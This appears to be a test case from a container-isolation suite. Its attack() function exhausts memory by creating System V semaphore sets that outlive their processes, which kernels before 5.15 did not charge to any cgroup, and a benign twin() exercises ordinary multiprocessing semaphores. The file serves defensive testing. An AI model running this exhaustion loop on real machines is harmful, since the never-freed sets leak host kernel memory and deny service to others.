"""Make sets of semaphores without end.

Technique: semget makes up to 32,000 sets of up to 32,000 semaphores (kernel.sem), 64 bytes each, that outlive their processes.
    Before Linux 5.15 they were charged to nobody.
Success: the sets take twice the memory limit.
Stopped by: memory_cgroup
Held when: limit memory
Needs: memory_cgroup
"""

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
IPC_PRIVATE = 0
SEMAPHORES, SEMAPHORE_BYTES = 16_000, 64


def attack():
    count = 0
    while count * SEMAPHORES * SEMAPHORE_BYTES < 2 * LIMIT:
        if libc.semget(IPC_PRIVATE, SEMAPHORES, 0o600) == -1:
            raise OSError(ctypes.get_errno(), "semget")
        count += 1
    return f"{count} sets take {count * SEMAPHORES * SEMAPHORE_BYTES >> 20} MB"


def twin():
    """Locks and semaphores of multiprocessing."""
    import multiprocessing

    context = multiprocessing.get_context("fork")
    semaphores = [context.Semaphore(0) for _ in range(50)]
    child = context.Process(target=lambda: [one.release() for one in semaphores])
    child.start()
    assert all(one.acquire(timeout=5) for one in semaphores)
    child.join()
